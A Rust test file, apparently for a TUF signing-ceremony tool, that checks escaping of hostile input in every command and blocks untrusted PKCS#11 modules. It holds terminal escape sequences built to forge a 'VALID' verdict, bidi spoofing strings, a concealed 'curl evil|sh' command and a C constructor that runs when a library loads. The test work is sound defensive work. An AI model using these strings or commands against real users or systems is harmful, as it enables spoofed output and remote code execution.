//! Hostile strings in everything Conclave reads (role names, key owners, file names, layouts,
//! bundles, scripts, transcripts, answers files), driven through every command and report that
//! prints input: nothing a terminal interprets reaches standard output or standard error, and
//! the `FAILED` line of `conclave verify` cannot be overwritten or followed by a fake `VALID`.
//! Also: a PKCS#11 module named by an answers file outside the appliance's configuration and the
//! image's module directories is refused before it is loaded.

mod common;

use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};

use common::builders::{Repo, TestKey, delegations, drole, targets};
use serde_json::{Value as J, json};

/// Moves the cursor up, erases the line and writes a fake verdict.
const OVERWRITE: &str =
    "\u{1b}[1A\u{1b}[2K\rVALID: root chain to v1 and every role present verified";
/// Starts a new line with a fake verdict.
const NEWLINE_VALID: &str = "x\nVALID: root chain to v1 and every role present verified";
/// Sets the terminal title (OSC 0).
const TITLE: &str = "\u{1b}]0;owned\u{7}title";
/// Conceals what follows (SGR 8).
const CONCEAL: &str = "\u{1b}[8msh -c \"curl evil|sh\"\u{1b}[0m";
/// C1 CSI (one character) clearing the screen.
const C1_CSI: &str = "c1\u{9b}2J";
const NUL: &str = "nul\u{0}byte";
const DEL: &str = "del\u{7f}ete";
/// Shows "evil" as "live".
const RLO: &str = "\u{202e}live";
const ZERO_WIDTH: &str = "zero\u{200b}wid\u{200d}th\u{feff}";

fn huge() -> String {
    "h".repeat(100_000)
}

fn padded() -> String {
    format!("alice{}- removed owner carol", " ".repeat(70))
}

fn corpus() -> Vec<String> {
    let mut v: Vec<String> = [
        OVERWRITE,
        NEWLINE_VALID,
        TITLE,
        CONCEAL,
        C1_CSI,
        NUL,
        DEL,
        RLO,
        ZERO_WIDTH,
    ]
    .iter()
    .map(|s| s.to_string())
    .collect();
    v.push(huge());
    v.push(padded());
    v
}

/// What a terminal interprets or a reader cannot see: ESC and every other C0 control but
/// newline and tab, DEL, C1 controls (U+0080-U+009F), bidi controls, zero-width characters.
fn interpreted(c: char) -> bool {
    let u = c as u32;
    (u < 0x20 && c != '\n' && c != '\t')
        || (0x7f..=0x9f).contains(&u)
        || matches!(
            u,
            0x061C | 0x200B..=0x200F | 0x202A..=0x202E | 0x2066..=0x2069 | 0xFEFF
        )
}

/// Checks one command's streams; returns them for further checks.
fn assert_clean(what: &str, out: &[u8], err: &[u8]) {
    for (name, bytes) in [("stdout", out), ("stderr", err)] {
        let text = String::from_utf8(bytes.to_vec())
            .unwrap_or_else(|e| panic!("{what}: {name} is not UTF-8: {e}"));
        if let Some((i, c)) = text.char_indices().find(|(_, c)| interpreted(*c)) {
            let from = text[..i].char_indices().rev().nth(60).map_or(0, |(j, _)| j);
            panic!(
                "{what}: {name} carries U+{:04X} at byte {i}: ...{:?}",
                c as u32,
                &text[from..(i + 8).min(text.len())]
            );
        }
        // A 100 KB name is shortened visibly.
        assert!(
            !text.contains(&"h".repeat(1001)),
            "{what}: {name} prints a 100 KB name whole"
        );
    }
}

fn conclave() -> Command {
    let mut c = Command::new(env!("CARGO_BIN_EXE_conclave"));
    // The built-in defaults, whatever the machine running the tests says.
    c.env_remove("CONCLAVE_CONFIG");
    c
}

/// Runs `conclave ARGS`, checks the streams are clean, returns (code, stdout, stderr).
fn run(what: &str, args: &[&str]) -> (i32, String, String) {
    run_env(what, args, &[])
}

fn run_env(what: &str, args: &[&str], env: &[(&str, &Path)]) -> (i32, String, String) {
    let mut cmd = conclave();
    cmd.args(args);
    for (k, v) in env {
        cmd.env(k, v);
    }
    // Raw bytes: a lossy decoding would hide a lone C1 byte.
    let o = cmd
        .stdin(Stdio::null())
        .output()
        .unwrap_or_else(|e| panic!("{what}: {e}"));
    assert_clean(what, &o.stdout, &o.stderr);
    let code = o.status.code().unwrap_or_else(|| panic!("{what}: killed"));
    (
        code,
        String::from_utf8(o.stdout).unwrap(),
        String::from_utf8(o.stderr).unwrap(),
    )
}

fn s(p: &Path) -> &str {
    p.to_str().unwrap()
}

/// A repository whose root names hostile key owners and whose targets delegate to roles with
/// hostile names; the last delegated role is signed by the wrong key, so verification fails on
/// it.
fn hostile_repo(dir: &Path, failing_role: &str) -> Repo {
    let mut repo = Repo::new();
    let owners = [huge(), padded(), RLO.to_string(), TITLE.to_string()];
    let ids: Vec<String> = repo.root["keys"]
        .as_object()
        .unwrap()
        .keys()
        .cloned()
        .collect();
    for (id, owner) in ids.iter().zip(owners) {
        repo.root["keys"][id]["x-tuf-on-ci-keyowner"] = J::String(owner);
    }
    let dev = TestKey::ed25519(9);
    let wrong = TestKey::ed25519(10);
    let mut dev_keys = delegations(&[&dev], Vec::new());
    let dev_id = dev.id.clone();
    dev_keys["keys"][&dev_id]["x-tuf-on-ci-keyowner"] = J::String(CONCEAL.into());
    let mut names: Vec<String> = [TITLE, C1_CSI, DEL, RLO, ZERO_WIDTH, CONCEAL]
        .iter()
        .map(|s| s.to_string())
        .collect();
    names.push(padded());
    names.push(failing_role.to_string());
    let roles: Vec<J> = names
        .iter()
        .map(|n| drole(n, &[&dev], 1, false, &["*"]))
        .collect();
    dev_keys["roles"] = J::Array(roles);
    repo.targets = targets(1, &[], Some(dev_keys));
    for n in &names {
        let key = if n == failing_role { &wrong } else { &dev };
        repo = repo.role(n, targets(1, &[], None), &[key]);
    }
    std::fs::create_dir_all(dir).unwrap();
    std::fs::write(dir.join("1.root.json"), repo.trusted_root()).unwrap();
    for (name, bytes) in repo.files() {
        std::fs::write(dir.join(name), bytes).unwrap();
    }
    repo
}

#[test]
fn verify_failed_line_cannot_be_overwritten_or_followed_by_a_fake_verdict() {
    let tmp = tempfile::tempdir().unwrap();
    for (i, failing) in [OVERWRITE, NEWLINE_VALID].iter().enumerate() {
        let dir = tmp.path().join(format!("repo{i}"));
        hostile_repo(&dir, failing);
        let root = dir.join("1.root.json");
        let (code, out, err) = run(
            "verify",
            &["verify", "--trusted-root", s(&root), "--repo", s(&dir)],
        );
        assert_eq!(code, 1, "{out}{err}");
        let last = out.lines().rev().find(|l| !l.trim().is_empty()).unwrap();
        assert!(last.starts_with("FAILED: "), "{out}");
        assert!(
            !out.lines().any(|l| l.trim_start().starts_with("VALID")),
            "a line reads like a verdict:\n{out}"
        );
        // The hostile role name is there, escaped, for the reader to see.
        assert!(
            last.contains("\\x1b[1A") || last.contains("\\nVALID"),
            "{last}"
        );
        let (code, _, _) = run(
            "verify --json",
            &[
                "verify",
                "--trusted-root",
                s(&root),
                "--repo",
                s(&dir),
                "--json",
            ],
        );
        assert_eq!(code, 1);
        // JSON output stays valid JSON and exact: the guard writes JSON escapes.
        let raw = conclave()
            .args([
                "verify",
                "--trusted-root",
                s(&root),
                "--repo",
                s(&dir),
                "--json",
            ])
            .output()
            .unwrap();
        let v: J = serde_json::from_slice(&raw.stdout).unwrap();
        assert!(v.to_string().contains("\\u001b[1A") || v.to_string().contains("\\nVALID"));
    }
}

#[test]
fn inspect_and_token_list_show_hostile_owners_and_role_names_escaped() {
    let tmp = tempfile::tempdir().unwrap();
    let dir = tmp.path().join("repo");
    hostile_repo(&dir, OVERWRITE);
    for f in ["1.root.json", "targets.json"] {
        let (code, out, err) = run(&format!("inspect {f}"), &["inspect", s(&dir.join(f))]);
        assert_eq!(code, 0, "{out}{err}");
        if f == "1.root.json" {
            assert!(out.contains("owner \\u{202e}live"), "{out}");
            assert!(out.contains("(100000 characters)"), "{out}");
            assert!(
                out.contains("owner alice\\x20{70}- removed owner carol"),
                "{out}"
            );
        } else {
            assert!(out.contains("role \"\\x1b]0;owned\\x07title\""), "{out}");
        }
    }
    // `token list --trusted-root`: the root's keys are on no present token; their owners are
    // listed (SoftHSM2 practice tokens stand in for the keyholders' devices).
    let hsm = tmp.path().join("hsm");
    let (code, out, err) = run(
        "token init-practice",
        &[
            "token",
            "init-practice",
            "--dir",
            s(&hsm),
            "--keyholders",
            "alice",
            "--type",
            "none",
            "--json",
        ],
    );
    assert_eq!(code, 0, "{out}{err}");
    let conf = hsm.join("softhsm2.conf");
    let (code, out, err) = run_env(
        "token list --trusted-root",
        &[
            "token",
            "list",
            "--trusted-root",
            s(&dir.join("1.root.json")),
        ],
        &[("SOFTHSM2_CONF", &conf)],
    );
    assert_eq!(code, 0, "{out}{err}");
    assert!(out.contains("(owner \\u{202e}live)"), "{out}");
}

#[test]
fn usb_import_bundle_merge_and_intoto_show_escape_what_they_quote() {
    let tmp = tempfile::tempdir().unwrap();
    // usb import: file names from the stick (a file name cannot hold NUL or '/').
    let stick = tmp.path().join("stick");
    std::fs::create_dir(&stick).unwrap();
    for (i, n) in corpus().iter().enumerate() {
        let name: String = n.replace(['\0', '/'], "_").chars().take(60).collect();
        std::fs::write(stick.join(format!("{i}{name}")), b"x").unwrap();
    }
    std::fs::write(
        stick.join("SHA256SUMS"),
        format!("{}  \u{1b}]0;owned\u{7}\n{OVERWRITE}\n", "0".repeat(64)),
    )
    .unwrap();
    let (_, out, _) = run("usb import", &["usb", "import", s(&stick)]);
    assert!(out.contains("\\u{202e}live"), "{out}");

    // bundle merge: every field of a bundle is input.
    let dir = tmp.path().join("repo");
    hostile_repo(&dir, OVERWRITE);
    for field in ["role", "keyid", "time", "token_serial"] {
        for hostile in [OVERWRITE, TITLE, RLO, C1_CSI] {
            let mut b = json!({
                "_type": "conclave-signature-bundle",
                "role": "root",
                "version": 1,
                "signed_sha256": "0".repeat(64),
                "keyid": "00",
                "sig": "00",
                "token_serial": "1",
                "time": "2026-01-01T00:00:00Z",
            });
            b[field] = J::String(hostile.into());
            let path = tmp.path().join("b.bundle");
            std::fs::write(&path, serde_json::to_vec(&b).unwrap()).unwrap();
            let out_file = tmp.path().join("merged.json");
            let (code, out, err) = run(
                &format!("bundle merge ({field})"),
                &[
                    "bundle",
                    "merge",
                    "--metadata",
                    s(&dir.join("1.root.json")),
                    "--out",
                    s(&out_file),
                    s(&path),
                ],
            );
            assert_ne!(code, 0, "{out}{err}");
        }
    }

    // intoto show: names, commands and keys of a layout.
    let layout = json!({
        "signed": {
            "_type": "layout",
            "expires": RLO,
            "readme": TITLE,
            "keys": {OVERWRITE: {"scheme": C1_CSI}},
            "steps": [{"name": TITLE, "expected_command": [CONCEAL], "pubkeys": [RLO], "threshold": 1}],
            "inspect": [{"name": ZERO_WIDTH, "run": ["true", CONCEAL, &huge()]}],
        },
        "signatures": [],
    });
    let path = tmp.path().join("root.layout");
    std::fs::write(&path, serde_json::to_vec(&layout).unwrap()).unwrap();
    let (code, out, err) = run("intoto show", &["intoto", "show", s(&path)]);
    assert_eq!(code, 0, "{out}{err}");
    assert!(
        out.contains("\\x1b[8msh -c \"curl evil|sh\"\\x1b[0m"),
        "{out}"
    );
}

#[test]
fn ceremony_check_and_print_escape_the_script() {
    let tmp = tempfile::tempdir().unwrap();
    let text = std::fs::read_to_string(
        common::manifest_dir().join("ceremony-scripts/bootstrap-root.toml"),
    )
    .unwrap();
    let title_line = text
        .lines()
        .find(|l| l.starts_with("title"))
        .unwrap()
        .to_string();
    let hostile = text.replacen(
        &title_line,
        "title = \"\\u001b]0;owned\\u0007 \\u202elive \\u009b2J \\u001b[1A\\u001b[2K\"",
        1,
    );
    let path = tmp.path().join("hostile.toml");
    std::fs::write(&path, hostile).unwrap();
    let (code, out, err) = run("ceremony check", &["ceremony", "check", s(&path)]);
    assert_eq!(code, 0, "{out}{err}");
    assert!(out.contains("\\u{202e}live"), "{out}");
    run("ceremony print", &["ceremony", "print", s(&path)]);
    let (_, html, _) = run(
        "ceremony print --html",
        &["ceremony", "print", "--html", s(&path)],
    );
    assert!(html.contains("\\u{202e}live"), "{html}");
    // A mistake in a hostile script names it escaped.
    let broken = text.replacen(&title_line, "title = 5\n\u{1b}]0;x = \"\u{202e}\"", 1);
    std::fs::write(&path, broken).unwrap();
    let (code, _, _) = run("ceremony check (broken)", &["ceremony", "check", s(&path)]);
    assert_ne!(code, 0);
}

#[test]
fn transcript_verify_text_html_and_markdown_escape_records() {
    use conclave::driver::transcript_file::TranscriptFile;
    use conclave::transcript::details::{BeginDetails, FileDigest};
    use conclave::transcript::record::Timestamp;
    let tmp = tempfile::tempdir().unwrap();
    let path = tmp.path().join("ceremony.jsonl");
    let mut f = TranscriptFile::create(&path).unwrap();
    let t = |n: u32| Timestamp::parse(&format!("2026-11-23T09:00:{n:02}Z")).unwrap();
    // Input names are refused when they hold control characters; bidi and zero-width pass.
    let inputs = [RLO, ZERO_WIDTH]
        .iter()
        .map(|n| FileDigest::of(n, b"input"))
        .collect();
    let begin = BeginDetails::new(RLO, b"name = \"x\"\n", false, inputs);
    f.append(TITLE, None, "begin", begin.to_value(), t(0))
        .unwrap();
    for (i, n) in corpus().iter().enumerate() {
        let details = conclave::tuf::canonical::Value::parse(
            serde_json::to_string(&json!({"note": n}))
                .unwrap()
                .as_bytes(),
        )
        .unwrap();
        f.append(n, Some(n), "acknowledged", details, t(i as u32 + 1))
            .unwrap();
    }
    drop(f);
    let (_, out, _) = run(
        "transcript verify",
        &["transcript", "verify", "--partial", s(&path)],
    );
    assert!(out.contains("\\u{202e}live"), "{out}");
    for ext in ["md", "html"] {
        let report = tmp.path().join(format!("report.{ext}"));
        run(
            &format!("transcript verify --report .{ext}"),
            &[
                "transcript",
                "verify",
                "--partial",
                s(&path),
                "--report",
                s(&report),
            ],
        );
        let page = std::fs::read(&report).unwrap();
        assert_clean(&format!("the {ext} report"), &page, b"");
        let page = String::from_utf8(page).unwrap();
        // The page shows the escape, never "live" reversed into "evil".
        assert!(page.contains("u{202e}live"), "{ext}");
    }
}

/// An answers file for `ceremony run`, with `people` and an extra line.
fn answers(dir: &Path, people: &str, extra: &str) -> PathBuf {
    let path = dir.join("answers.toml");
    std::fs::write(
        &path,
        format!(
            "practice = true\nacknowledgement = \"BAG-A1234567\"\n{extra}\n[people]\n{people}\n\n[parameters]\nkey_type = \"ed25519\"\n"
        ),
    )
    .unwrap();
    path
}

#[test]
fn answers_files_with_hostile_names_are_refused_naming_the_field() {
    let tmp = tempfile::tempdir().unwrap();
    let ok_people = |admin: &str, third: &str, witness: &str| {
        format!(
            "administrator = {}\nkeyholders = [\"alice\", \"bob\", {}]\nwitnesses = [{}]",
            toml_str(admin),
            toml_str(third),
            toml_str(witness)
        )
    };
    let cases: Vec<(String, &str, &str)> = vec![
        (
            ok_people(OVERWRITE, "carol", "wendy"),
            "people.administrator",
            "control, bidi or invisible",
        ),
        (
            ok_people("ada", RLO, "wendy"),
            "people.keyholders[2]",
            "control, bidi or invisible",
        ),
        (
            ok_people("ada", ZERO_WIDTH, "wendy"),
            "people.keyholders[2]",
            "control, bidi or invisible",
        ),
        (
            ok_people("ada", "carol", NUL),
            "people.witnesses[0]",
            "control, bidi or invisible",
        ),
        (
            ok_people("ada", "carol", C1_CSI),
            "people.witnesses[0]",
            "control, bidi or invisible",
        ),
        (
            ok_people("ada", &huge(), "wendy"),
            "people.keyholders[2]",
            "more than the 64 allowed",
        ),
        (
            ok_people("ada", &padded(), "wendy"),
            "people.keyholders[2]",
            "more than the 64 allowed",
        ),
        (
            ok_people("ada", " carol", "wendy"),
            "people.keyholders[2]",
            "starts or ends with a space",
        ),
        (
            ok_people("ada", "carol", "wendy  "),
            "people.witnesses[0]",
            "starts or ends with a space",
        ),
    ];
    let ws = tmp.path().join("ws");
    for (people, field, why) in cases {
        let a = answers(tmp.path(), &people, "");
        let (code, out, err) = run(
            &format!("ceremony run ({field})"),
            &[
                "ceremony",
                "run",
                "bootstrap-root",
                "--workspace",
                s(&ws),
                "--answers",
                s(&a),
            ],
        );
        assert_eq!(code, 2, "{out}{err}");
        assert!(
            err.contains(&format!("answers.toml: {field}: the name")) && err.contains(why),
            "{field}: {err}"
        );
    }
}

#[test]
fn answers_files_with_hostile_token_and_parameter_names_are_refused() {
    let tmp = tempfile::tempdir().unwrap();
    let people = "administrator = \"ada\"\nkeyholders = [\"alice\", \"bob\", \"carol\"]\nwitnesses = [\"wendy\"]";
    let ws = tmp.path().join("ws");
    // A keyholder named in [tokens] (an inline table here, before [people]).
    let a = answers(
        tmp.path(),
        people,
        &format!("tokens = {{ {} = \"yk-1\" }}", toml_str(RLO)),
    );
    let (code, out, err) = run(
        "ceremony run (tokens)",
        &[
            "ceremony",
            "run",
            "bootstrap-root",
            "--workspace",
            s(&ws),
            "--answers",
            s(&a),
        ],
    );
    assert_eq!(code, 2, "{out}{err}");
    assert!(
        err.contains("answers.toml: tokens.\\u{202e}live: the name"),
        "{err}"
    );
    // A keyholder joining a root rotation, named in a parameter.
    let path = tmp.path().join("answers.toml");
    std::fs::write(
        &path,
        format!(
            "practice = true\nacknowledgement = \"BAG-A1234567\"\n\n[people]\n{people}\n\n[parameters]\nadd_keyholders = {}\n",
            toml_str(&format!("dave, {TITLE}"))
        ),
    )
    .unwrap();
    let (code, out, err) = run(
        "ceremony run (add_keyholders)",
        &[
            "ceremony",
            "run",
            "rotate-root-keys",
            "--workspace",
            s(&ws),
            "--answers",
            s(&path),
        ],
    );
    assert_eq!(code, 2, "{out}{err}");
    assert!(
        err.contains(
            "answers.toml: parameters.add_keyholders: the name \"\\x1b]0;owned\\x07title\""
        ),
        "{err}"
    );
}

fn toml_str(s: &str) -> String {
    serde_json::to_string(s).unwrap()
}

#[test]
fn a_pkcs11_module_from_the_input_media_is_refused_before_it_is_loaded() {
    let tmp = tempfile::tempdir().unwrap();
    // A shared object whose constructor leaves a marker: loading it at all would run it.
    let marker = tmp.path().join("constructor-ran");
    let src = tmp.path().join("evil.c");
    std::fs::write(
        &src,
        format!(
            "#include <stdio.h>\n__attribute__((constructor)) static void owned(void) {{\n  FILE *f = fopen(\"{}\", \"w\");\n  if (f) {{ fputs(\"ran\", f); fclose(f); }}\n}}\nint C_GetFunctionList(void **p) {{ (void)p; return 5; }}\n",
            marker.display()
        ),
    )
    .unwrap();
    let stick = tmp.path().join("stick");
    std::fs::create_dir(&stick).unwrap();
    let so = stick.join("libevil.so");
    let cc = Command::new("cc")
        .args(["-shared", "-fPIC", "-o"])
        .arg(&so)
        .arg(&src)
        .output()
        .expect("cc (gcc) is needed to build the test's shared object");
    assert!(
        cc.status.success(),
        "{}",
        String::from_utf8_lossy(&cc.stderr)
    );
    // The shared object works: loaded on purpose, its constructor writes the marker (checked
    // with python's ctypes, which dlopens it).
    let probe = Command::new("python3")
        .args(["-c", "import ctypes,sys; ctypes.CDLL(sys.argv[1])"])
        .arg(&so)
        .output()
        .unwrap();
    assert!(probe.status.success(), "{probe:?}");
    assert!(
        marker.exists(),
        "the test's shared object does not run its constructor"
    );
    std::fs::remove_file(&marker).unwrap();

    let people = "administrator = \"ada\"\nkeyholders = [\"alice\", \"bob\", \"carol\"]\nwitnesses = [\"wendy\"]";
    let ws = tmp.path().join("ws");
    for module in [so.clone(), stick.join("../stick/libevil.so")] {
        let a = answers(
            tmp.path(),
            people,
            &format!("module = {}", toml_str(s(&module))),
        );
        let (code, out, err) = run(
            "ceremony run (module)",
            &[
                "ceremony",
                "run",
                "bootstrap-root",
                "--workspace",
                s(&ws),
                "--answers",
                s(&a),
            ],
        );
        assert_eq!(code, 2, "{out}{err}");
        assert!(
            err.contains("answers.toml: module: refused")
                && err.contains("a module from the input media is never loaded"),
            "{err}"
        );
        assert!(
            !marker.exists(),
            "the module from the input media was loaded"
        );
    }
    // An appliance configured with another module does not load it either.
    let config = tmp.path().join("config.toml");
    std::fs::write(
        &config,
        "[pkcs11]\nmodule = \"/usr/lib/softhsm/libsofthsm2.so\"\n",
    )
    .unwrap();
    let a = answers(
        tmp.path(),
        people,
        &format!("module = {}", toml_str(s(&so))),
    );
    let (code, _, err) = run(
        "ceremony run (module, configured otherwise)",
        &[
            "--config",
            s(&config),
            "ceremony",
            "run",
            "bootstrap-root",
            "--workspace",
            s(&ws),
            "--answers",
            s(&a),
        ],
    );
    assert_eq!(code, 2, "{err}");
    assert!(err.contains("config.toml:2 (pkcs11.module)"), "{err}");
    assert!(
        !marker.exists(),
        "the module from the input media was loaded"
    );
}
